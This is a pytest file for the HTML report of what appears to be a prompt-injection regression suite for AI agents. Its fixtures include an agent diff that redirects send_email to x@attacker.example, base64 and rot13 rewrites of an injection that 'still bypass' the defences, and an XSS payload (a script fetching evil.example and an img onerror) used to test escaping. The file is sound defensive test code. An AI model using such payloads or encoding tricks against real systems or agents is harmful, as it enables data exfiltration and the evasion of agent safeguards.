"""report.html is self-contained, escapes everything, and shows what a reviewer needs."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

from regression_suite.reports.html_report import MAX_FAILURES, render_html, write_html


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parse(html: str) -> _Collector:
    parser = _Collector()
    parser.feed(html)
    parser.close()
    return parser


def _items(item):
    return [
        item(
            "inc-a",
            "failed",
            diff="- send_email(to=boss@corp)\n+ send_email(to=x@attacker.example)",
            results=[
                {
                    "kind": "no_tool_call",
                    "passed": False,
                    "message": "send_email matched",
                    "step": 3,
                    "details": {},
                }
            ],
        ),
        item("inc-b", severity="SEV-3", failure_mode="policy_erosion"),
        item(
            "inc-a.b64", "failed", parent_id="inc-a", variant={"converters": ["base64"], "seed": 0}
        ),
        item(
            "inc-a.rot", parent_id="inc-a", variant={"converters": ["rot13", "base64"], "seed": 0}
        ),
    ]


def test_no_external_resource_no_script(item, make_report) -> None:
    """Nothing is fetched: no script, no link, no src/href to a URL; a CSP forbids loads."""
    html = render_html(make_report(_items(item)))
    parsed = _parse(html)
    names = {t for t, _ in parsed.tags}
    assert (
        "script" not in names
        and "link" not in names
        and "img" not in names
        and "iframe" not in names
    )
    for _, attrs in parsed.tags:
        for key in ("src", "href"):
            assert not (attrs.get(key) or "").startswith(("http:", "https:", "//"))
    assert "@import" not in html and "url(" not in html
    assert "default-src 'none'" in html


def test_shows_verdict_charts_bypass_and_diff(item, make_report) -> None:
    html = render_html(make_report(_items(item)))
    text = " ".join(_parse(html).text)
    assert 'class="verdict v-BLOCK"' in html
    assert "1 of 2 rewrites of inc-a (SEV-1) still bypass: base64" in text
    assert html.count("<svg") == 3  # by failure mode, by severity, per converter
    assert "Pass rate by failure mode" in text and "Pass rate by severity" in text
    assert "policy_erosion" in text and "prompt_injection" in text
    assert "+ send_email(to=x@attacker.example)" in text  # the diff, escaped but readable
    assert "rot13+base64" in text
    assert "send_email matched" in text


def test_scenario_text_is_escaped(item, make_report) -> None:
    evil = '<script>fetch("https://evil.example")</script><img src=x onerror=alert(1)>'
    html = render_html(
        make_report(
            [
                item(
                    "inc-x",
                    "failed",
                    message=evil,
                    diff=evil,
                    failure_mode="<b>mode</b>",
                )
            ]
        )
    )
    assert "<script>" not in html and "<img" not in html and "<b>mode" not in html
    assert "&lt;script&gt;" in html


def test_baseline_section(item, make_report) -> None:
    baseline = make_report([item("inc-a"), item("inc-b", "failed")])
    html = render_html(make_report([item("inc-a", "failed"), item("inc-b")], baseline=baseline))
    text = " ".join(_parse(html).text)
    assert "Newly failing (1)" in text and "Fixed (1)" in text
    assert "Significant regressions: inc-a" in text


def test_large_runs_are_capped_but_counted(item, make_report, tmp_path: Path) -> None:
    items = [item(f"s{i:04d}", "failed", severity="SEV-4") for i in range(MAX_FAILURES + 7)]
    [path] = write_html(make_report(items), tmp_path)
    html = path.read_text("utf-8")
    assert "7 more in report.json" in html
    assert len(re.findall(r"<details", html)) == MAX_FAILURES
